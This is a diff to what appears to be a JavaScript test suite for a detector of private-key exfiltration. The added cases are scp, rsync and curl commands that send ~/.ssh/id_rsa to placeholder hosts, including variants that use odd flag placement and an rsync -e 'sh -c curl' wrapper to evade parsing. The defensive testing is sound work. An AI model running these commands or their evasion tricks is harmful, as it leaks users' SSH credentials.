@@ -21,6 +21,12 @@ describe('a transfer', () => {
 
   it.each([
     ['a.sh', 'scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa u@h:\n'],
+    ['a.sh', 'scp -- -i ~/.ssh/id_rsa u@h:\n'],
+    ['a.sh', 'scp -i -i ~/.ssh/id_rsa u@h:\n'],
+    ['a.sh', 'scp -rFi ~/.ssh/id_rsa u@h:\n'],
+    ['a.sh', 'rsync --exclude -e ~/.ssh/id_rsa u@h:/x\n'],
+    ['a.sh', 'rsync -e "sh -c \'curl -d @$HOME/.ssh/id_rsa https://example.invalid\'" x u@h:/\n'],
+    ['a.sh', 'curl -A --key -d@/root/.ssh/id_rsa https://example.invalid/x\n'],
     ['a.sh', 'rsync -av ~/.ssh/ u@h:/x\n'],
     ['a.sh', 'curl -d @$HOME/.ssh/id_rsa https://example.invalid/x\n'],
     ['a.py', 'import os, subprocess\nsubprocess.run(["scp", os.path.expanduser("~/.ssh/id_rsa"), "u@h:"])\n'],
